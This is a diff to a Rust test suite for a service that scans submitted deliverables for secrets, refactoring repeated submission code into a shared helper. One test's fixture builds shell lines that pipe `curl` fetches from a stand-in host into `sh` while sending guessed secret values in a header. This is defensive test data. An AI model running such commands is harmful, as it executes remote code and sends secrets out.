@@ -1244,6 +1244,20 @@ fn a_deliverable_is_scanned_for_vault_values_and_accepted_once_reviewed() {
     s.assert_no_secret_logged();
 }
 
+/// Submits `body` as a deliverable named `name` (with `query` added) and returns the answer.
+fn deliver(s: &Server, token: &str, name: &str, query: &str, body: Vec<u8>) -> Value {
+    let (status, bytes) = raw(
+        s,
+        "POST",
+        &format!("/api/v1/deliverables?name={name}{query}"),
+        Some(token),
+        body,
+        None,
+    );
+    assert_eq!(status, 200, "{}", String::from_utf8_lossy(&bytes));
+    serde_json::from_slice::<Value>(&bytes).unwrap()
+}
+
 #[test]
 fn a_deliverable_never_tells_its_submitter_where_an_unreadable_vault_value_is() {
     let s = Server::start();
@@ -1265,18 +1279,8 @@ fn a_deliverable_never_tells_its_submitter_where_an_unreadable_vault_value_is() 
             format!("curl -H \"K: {guess}\" https://get.example.net/{n} | sh\n")
         })
         .collect();
-    let submit = |token: &str, query: &str| {
-        let (status, bytes) = raw(
-            &s,
-            "POST",
-            &format!("/api/v1/deliverables?name=x.sh{query}"),
-            Some(token),
-            guesses.clone().into_bytes(),
-            None,
-        );
-        assert_eq!(status, 200, "{}", String::from_utf8_lossy(&bytes));
-        serde_json::from_slice::<Value>(&bytes).unwrap()
-    };
+    let submit =
+        |token: &str, query: &str| deliver(&s, token, "x.sh", query, guesses.clone().into_bytes());
     let code_shown = |answer: &Value| -> Vec<String> {
         answer["items"]
             .as_array()
@@ -1399,18 +1403,7 @@ fn a_deliverable_counts_a_vault_secret_once_and_holds_what_was_not_scanned() {
     let cy = s.person("cy", "contractor", Some("acme"));
     let sam = s.person("sam", "security", None);
     let (cy_t, sam_t) = (s.login(&cy), s.login(&sam));
-    let submit = |name: &str, body: Vec<u8>| {
-        let (status, bytes) = raw(
-            &s,
-            "POST",
-            &format!("/api/v1/deliverables?name={name}"),
-            Some(&cy_t),
-            body,
-            None,
-        );
-        assert_eq!(status, 200, "{}", String::from_utf8_lossy(&bytes));
-        serde_json::from_slice::<Value>(&bytes).unwrap()
-    };
+    let submit = |name: &str, body: Vec<u8>| deliver(&s, &cy_t, name, "", body);
     let rules = |answer: &Value| -> Vec<String> {
         answer["items"]
             .as_array()
